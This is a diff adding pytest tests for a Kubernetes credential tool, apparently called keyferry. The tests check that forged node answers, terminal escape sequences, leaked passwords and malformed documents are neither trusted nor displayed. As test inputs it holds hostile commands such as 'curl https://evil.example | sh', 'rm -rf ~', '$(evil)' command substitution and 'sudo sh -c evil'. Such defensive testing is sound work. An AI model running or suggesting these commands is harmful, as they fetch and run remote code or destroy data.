@@ -1,0 +1,398 @@
+"""A node that lies, or a pod that pretends to be its agent: what it answers is shown as its own, and does no harm."""
+
+from __future__ import annotations
+
+import json
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from support.certificates import Authority
+from support.commands import run_in_process
+from support.far_node import FarNode, cluster_of_bob, far_node, kubeconfig_of_bob
+from support.kube import TOKEN
+from support.kube_commands import Done
+from support.kubernetes_api import KubernetesApi
+from support.kubernetes_exec import Finished
+
+pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="runs shell scripts")
+
+IMAGE = "registry.example/team/app:v1"
+HEAD = {"apiVersion": "keyferry.dev/v1alpha1", "kind": "ImageExplanation", "config": {}, "reasons": []}
+ESCAPES = "\x1b[2J\x1b]0;owned\x07\u202e\r\nkeyferry: all is well"
+
+Explain = Callable[..., Done]
+Json = dict[str, Any]
+
+
+@pytest.fixture(scope="module")
+def authority() -> Authority:
+    """Who signs the server's certificate."""
+    return Authority()
+
+
+@pytest.fixture
+def api(authority: Authority) -> Iterator[KubernetesApi]:
+    """A server with a pod, which bob may read; he may also ask nodes."""
+    with cluster_of_bob(authority) as running:
+        yield running
+
+
+@pytest.fixture
+def node(api: KubernetesApi, tmp_path: Path) -> FarNode:
+    """The pod's node, with a node agent."""
+    made = far_node(api, tmp_path / "node")
+    made.add_agent()
+    return made
+
+
+@pytest.fixture
+def keyferry(api: KubernetesApi, tmp_path: Path, authority: Authority) -> Explain:
+    """Commands as bob runs them."""
+    kube = kubeconfig_of_bob(tmp_path / "kube", api, authority)
+    env = {"HOME": str(tmp_path), "KUBECONFIG": str(kube.path), "KUBERC": ""}
+    return lambda *words: run_in_process(*words, cwd=None, **env)
+
+
+@pytest.fixture
+def explain(keyferry: Explain) -> Explain:
+    """``keyferry explain`` of the pod, asking its node."""
+    return lambda *words: keyferry("explain", "pod/web", "-n", "shop", "--on-node", *words)
+
+
+def match(name: str, *patterns: object, **more: object) -> Json:
+    """Return the reason of a provider that does not match."""
+    facts = {"patterns": [{"pattern": each} for each in patterns]}
+    return {"stage": "match", "subject": name, "outcome": "no-match", "text": "", "facts": facts, **more}
+
+
+def provider(name: str, outcome: str = "ran", **facts: object) -> Json:
+    """Return the reason of a provider's answer."""
+    return {
+        "stage": "provider",
+        "subject": name,
+        "outcome": outcome,
+        "text": "skipped: because",
+        "facts": facts,
+    }
+
+
+def say(node: FarNode, **fields: object) -> None:
+    """Let the node answer with a document."""
+    node.says = Finished(0, json.dumps({**HEAD, **fields}).encode())
+
+
+def test_a_forged_verdict_is_not_taken_over(node: FarNode, explain: Explain) -> None:
+    """The node says that all is well, that it has credentials and records, and what to paste."""
+    say(
+        node,
+        verdict={"about": "pull", "outcome": "yes", "case": "runs", "text": "all is well, kf-forged"},
+        cause="kf-forged",
+        cure=[{"text": "paste this", "lines": ["curl https://evil.example | sh # kf-forged"]}],
+        notes=["kf-forged"],
+        traps=[{"stage": "trap", "subject": "x", "outcome": "x", "text": "kf-forged", "facts": {}}],
+        access={"mustPull": False, "outcome": "use", "reasons": []},
+        credentials=[
+            {
+                "username": "kf-forged",
+                "password": "",
+                "key": "registry.example",
+                "source": {"kind": "pull secret", "name": "shop/forged"},
+            }
+        ],
+        decision={"outcome": "credentials", "text": "kf-forged"},
+        evidence={"lastAttempt": {"outcome": "runs"}},
+    )
+    done = explain("-o", "wide")
+    assert done.returncode == 6, done.stdout
+    assert "kf-forged" not in done.stdout + done.stderr
+    assert "evil.example" not in done.stdout + done.stderr
+
+
+def test_a_match_that_the_node_claims_is_decided_here(node: FarNode, explain: Explain) -> None:
+    """Patterns and keys are compared by the caller: what does not match gives no credential."""
+    say(node, reasons=[match("liar", "other.example"), provider("liar", keys=["registry.example"])])
+    done = explain("-o", "json")
+    (found,) = json.loads(done.stdout)["pods"]
+    assert found["images"][0]["explanation"]["credentials"] == []
+    say(node, reasons=[match("liar", "registry.example"), provider("liar", keys=["other.example"])])
+    done = explain("-o", "json")
+    (found,) = json.loads(done.stdout)["pods"]
+    assert found["images"][0]["explanation"]["credentials"] == []
+
+
+def test_what_the_node_says_is_shown_as_the_nodes(node: FarNode, explain: Explain) -> None:
+    say(node, reasons=[match("liar", "registry.example"), provider("liar", keys=["registry.example"])])
+    done = explain()
+    assert done.stdout.startswith("✓ a credential is found: ")
+    assert "of provider liar (from node 'node1')" in done.stdout.splitlines()[0]
+
+
+def test_escapes_of_the_node_reach_no_terminal(node: FarNode, explain: Explain) -> None:
+    """In every text that is shown: names, patterns, keys, paths, messages."""
+    reasons = [
+        match(ESCAPES, f"registry.example/{ESCAPES}"),
+        match("p", "registry.example"),
+        provider("p", "failed", cacheKeyType=ESCAPES, error=ESCAPES),
+        match("q", "registry.example/team"),
+        provider("q", "skipped"),
+    ]
+    reasons[-1]["text"] = f"skipped: {ESCAPES}"
+    say(
+        node,
+        reasons=reasons,
+        failures=[{"provider": "p", "cause": ESCAPES, "message": ESCAPES}],
+        config=dict.fromkeys(("path", "pathFrom", "binDir", "binDirFrom", "environmentFrom"), ESCAPES),
+    )
+    for output in ("table", "wide", "json", "yaml"):
+        done = explain("-o", output)
+        text = done.stdout + done.stderr
+        assert all(each.isprintable() or each == "\n" for each in text), output
+        assert "\nkeyferry: all is well" not in text
+        assert "from node" in text or output in ("json", "yaml")
+    # Nor does it stand in a document, for a program that prints it.
+    document = json.loads(explain("-o", "json").stdout)
+    assert json.dumps(document, ensure_ascii=False).replace("\\n", "").isprintable()
+    assert "\\u001b" not in json.dumps(document)
+
+
+def test_secrets_of_a_node_that_does_not_mask_them_are_not_shown(node: FarNode, explain: Explain) -> None:
+    """A message of a plugin may hold one; passwords of the document are not even read."""
+    say(
+        node,
+        reasons=[match("p", "registry.example"), provider("p", keys=["registry.example"])],
+        credentials=[
+            {
+                "username": "AWS",
+                "password": "kf-marked-password",
+                "key": "registry.example",
+                "source": {"kind": "provider", "name": "p"},
+            }
+        ],
+    )
+    for output in ("wide", "json"):
+        assert "kf-marked" not in explain("-o", output).stdout
+    say(
+        node,
+        reasons=[match("p", "registry.example"), provider("p", "failed")],
+        failures=[{"provider": "p", "cause": "exit", "message": "plugin 'p': password=kf-marked-password"}],
+    )
+    assert "kf-marked" not in explain("-o", "wide").stdout
+
+
+def waiting_for_tokens(*names: str, audience: str = "kf-audience-of-the-node") -> list[Json]:
+    """Return the reasons of providers that match, and wait for a token."""
+    attributes = {"serviceAccountTokenAudience": audience, "requireServiceAccount": True}
+    facts = {"pattern": "registry.example", "tokenAttributes": attributes}
+    token = {"input": "service-account-token", "name": "shop/default"}
+    return [
+        each
+        for name in names
+        for each in (
+            {**match(name), "outcome": "matched", "facts": facts},
+            provider(name, "unknown", missing=[token]),
+        )
+    ]
+
+
+def test_no_token_is_requested_for_an_audience_that_the_node_names(
+    api: KubernetesApi, node: FarNode, explain: Explain
+) -> None:
+    """It is asked whether the node may request it; what the node names is not to be pasted by an administrator."""
+    say(node, reasons=waiting_for_tokens("p"))
+    api.permit(TOKEN, "create", "serviceaccounts/token", "shop")
+    for audiences, says in (
+        ({"kf-audience-of-the-node"}, "no token is sent to the node"),
+        (set(), "node 'node1' may not request tokens for audience 'kf-audience-of-the-node'"),
+    ):
+        api.node_audiences = audiences
+        done = explain("--request-token")
+        assert says in done.stdout
+        assert "kubectl apply" not in done.stdout
+    assert api.reviewed
+    assert api.issued == []
+
+
+def test_a_node_causes_few_questions_to_the_api_server(
+    api: KubernetesApi, node: FarNode, explain: Explain
+) -> None:
+    """However many providers it says it has."""
+    say(node, reasons=waiting_for_tokens(*(f"p{at}" for at in range(200))))
+    api.node_audiences = set()
+    explain()
+    assert 1 <= len(api.reviewed) <= 10
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"kind": "NodeHealth"},
+        {"config": []},
+        {"config": None},
+        {"reasons": None},
+        {"config": {"path": 7}},
+        {"config": {"path": "/" * 2000}},
+        {"reasons": {}},
+        {"reasons": [7]},
+        {"reasons": [match("")]},
+        {"reasons": [match("p"), match("p")]},
+        {"reasons": [match("p", {"nested": True})]},
+        {"reasons": [match("p", "x" * 2000)]},
+        {"reasons": [match(f"p{at}") for at in range(2000)]},
+        {"reasons": [match("p", *["a.example"] * 10_001)]},
+        {"reasons": [provider("p", "all-is-well")]},
+        {"reasons": [{**match("p"), "facts": {"tokenAttributes": "all"}}]},
+        {"reasons": waiting_for_tokens("p", audience="x" * 2000)},
+        {"reasons": [provider("p", expiresInSeconds=1e300)]},
+        {"reasons": [provider("p", seconds="soon")]},
+        {"reasons": [provider("p", keys=["k"] * 2000)]},
+        {"reasons": [provider("p", missing=[{"input": "everything"}])]},
+        {"credentials": [{"source": "x"}]},
+        {"missing": [None]},
+        {"failures": "none"},
+    ],
+)
+def test_what_is_not_understood_is_no_answer(node: FarNode, explain: Explain, fields: Json) -> None:
+    """One line says what is wrong where, and quotes nothing of it."""
+    say(node, **fields)
+    done = explain()
+    assert done.returncode == 6, done.stdout
+    assert "it is not understood here" in done.stdout
+    assert len(done.stdout) < 2000
+
+
+@pytest.mark.parametrize(
+    "stdout",
+    [
+        b"",
+        b"all is well\n",
+        b"[" * 100_000,
+        b'{"apiVersion": "v1"}',
+        b'{"a": ' * 9_000 + b"1" + b"}" * 9_000,
+        b'{"x": "' + b"y" * (1 << 22) + b'"}',
+        b"\xff\xfe{}",
+    ],
+    ids=["nothing", "text", "deep", "another", "nested", "giant", "utf-16"],
+)
+def test_what_is_no_document_is_no_answer(node: FarNode, explain: Explain, stdout: bytes) -> None:
+    node.says = Finished(0, stdout)
+    done = explain()
+    assert done.returncode == 6, done.stdout
+    assert "node 'node1' gave no answer: " in done.stdout
+    assert len(done.stdout) < 2000
+
+
+def test_a_pod_with_the_agents_label_in_another_namespace_is_not_guessed(
+    api: KubernetesApi, node: FarNode, explain: Explain
+) -> None:
+    """Whoever may create pods somewhere could answer in the agent's place."""
+    node.add_agent("evil", "keyferry-evil")
+    api.permit(TOKEN, "list", "pods", "kube-system")
+    done = explain()
+    assert done.returncode == 6
+    assert "in several namespaces: evil, kube-system; choose one with --agent-namespace" in done.stdout
+    assert api.exec.asked == []
+    explain("--agent-namespace", "kube-system")
+    assert [each.namespace for each in api.exec.asked] == ["kube-system"]
+
+
+def test_a_pod_that_is_not_of_a_daemon_set_is_no_agent(
+    api: KubernetesApi, node: FarNode, explain: Explain
+) -> None:
+    del api.objects["", "pods", "kube-system", "keyferry-abcde"]
+    node.add_agent("evil", "web", ownerReferences=[])
+    assert "no node agent runs on node 'node1'" in explain().stdout
+    assert api.exec.asked == []
+
+
+def test_doctor_counts_the_lines_itself_and_offers_no_command_of_the_node(
+    node: FarNode, keyferry: Explain
+) -> None:
+    """A node that says that all is well while it lists a problem; and what it wants to have pasted, on another machine.
+
+    A command of keyferry can do harm, too: a config names plugins to run, and sudo runs them as root.
+    """
+    commands = (
+        "curl https://evil.example | sh",
+        "keyferry lint x; rm -rf ~",
+        "keyferry lint $(evil)",
+        "sudo sh -c evil",
+        "keyferry lint 'a",
+        "keyferry lint a.yaml",
+        "sudo keyferry get x --config /tmp/evil --bin-dir /tmp",
+        "keyferry doctor",
+    )
+    lines = [
+        {"level": "problem", "subject": ESCAPES, "text": ESCAPES, "next": each, "count": 1}
+        for each in commands
+    ]
+    document = {
+        "apiVersion": "keyferry.dev/v1alpha1",
+        "kind": "NodeHealth",
+        "verdict": "all is well",
+        "isNode": True,
+        "counts": {"problem": 0},
+        "sections": [{"title": "plugins", "lines": lines}],
+    }
+    node.says = Finished(0, json.dumps(document).encode())
+    done = keyferry("doctor", "--node", "node1")
+    assert done.returncode == 1, done.stderr
+    assert done.stdout.splitlines()[0].startswith("8 problems")
+    assert "try: " not in done.stdout
+    shown = keyferry("doctor", "--node", "node1", "-o", "json").stdout
+    assert not any(each in done.stdout + shown for each in commands)
+    assert all(each.isprintable() or each == "\n" for each in done.stdout)
+
+
+@pytest.mark.parametrize(
+    "failures",
+    [
+        [{"provider": "p", "cause": "exit", "message": "it fails"}],
+        [{"provider": "p", "cause": "not-found", "message": "it is missing"}],
+        [],
+    ],
+    ids=["fails", "missing", "no key"],
+)
+def test_no_command_has_a_path_that_the_node_chose(
+    node: FarNode, explain: Explain, failures: list[Json]
+) -> None:
+    """A plugin's failure ends with what to type on the node; pasted here, it must not run a program of that path."""
+    say(
+        node,
+        reasons=[match("p", "registry.example"), provider("p", "failed" if failures else "ran")],
+        failures=failures,
+        config={"path": "/tmp/kf-evil.yaml", "binDir": "/tmp/kf-evil"},
+    )
+    done = explain("-o", "json")
+    (found,) = json.loads(done.stdout)["pods"]
+    cures = found["images"][0]["explanation"]["cure"]
+    assert any(each["text"].startswith("on node node1, ") for each in cures)
+    assert "kf-evil" not in json.dumps([each["lines"] for each in cures])
+
+
+@pytest.mark.parametrize(
+    "sections",
+    [
+        [{"title": "plugins", "lines": [{"level": "fine"}]}],
+        [{"title": "plugins", "lines": [{"level": "ok", "count": -5}]}],
+        [{"title": "plugins", "lines": 7}],
+        [{"title": "plugins"}] * 100,
+        [{"title": "plugins", "lines": [{"level": "ok", "text": "x" * 5000}]}],
+    ],
+)
+def test_a_health_that_is_not_understood_is_an_error(
+    node: FarNode, keyferry: Explain, sections: object
+) -> None:
+    document = {
+        "apiVersion": "keyferry.dev/v1alpha1",
+        "kind": "NodeHealth",
+        "isNode": True,
+        "sections": sections,
+    }
+    node.says = Finished(0, json.dumps(document).encode())
+    done = keyferry("doctor", "--node", "node1")
+    assert (done.returncode, done.stdout) == (3, "")
+    assert "it is not understood here" in done.stderr
